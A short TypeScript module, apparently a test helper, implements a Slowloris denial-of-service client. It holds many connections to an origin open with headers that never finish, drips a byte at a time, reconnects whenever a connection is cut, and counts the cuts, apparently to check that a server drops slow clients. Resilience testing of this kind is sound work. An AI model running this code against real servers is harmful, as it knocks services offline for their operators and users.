import { once } from 'node:events';
import { connect, type Socket } from 'node:net';

/** Between two bytes of one connection. */
const dripMs = 1_000;
const stepMs = 20;

export interface SlowClients extends Disposable {
  /** Connections that were cut so far, each of which was made again. */
  readonly cut: number;
}

/** Holds connections whose headers never end: a byte now and then, and a new connection for each that is cut (Slowloris). */
export async function slowClients(origin: string, count: number): Promise<SlowClients> {
  const { hostname, port } = new URL(origin);
  const sockets: Socket[] = [];
  let over = false;
  let cut = 0;
  const open = async (at: number): Promise<void> => {
    const socket = connect(Number(port), hostname);
    sockets[at] = socket;
    socket.on('error', () => {}).on('data', () => {});
    socket.once('close', () => {
      if (over) return;
      cut++;
      void open(at);
    });
    await once(socket, 'connect');
    socket.write('POST /agents/assistant HTTP/1.1\r\nHost: x\r\nX-Slow: ');
  };
  await Promise.all(Array.from({ length: count }, (_, at) => open(at)));
  let next = 0;
  const drip = setInterval(() => {
    for (let written = 0; written < (count * stepMs) / dripMs; written++) {
      const socket = sockets[next++ % count];
      if (socket?.writable) socket.write('a');
    }
  }, stepMs);
  return {
    get cut() {
      return cut;
    },
    [Symbol.dispose]() {
      over = true;
      clearInterval(drip);
      for (const socket of sockets) socket.destroy();
    },
  };
}
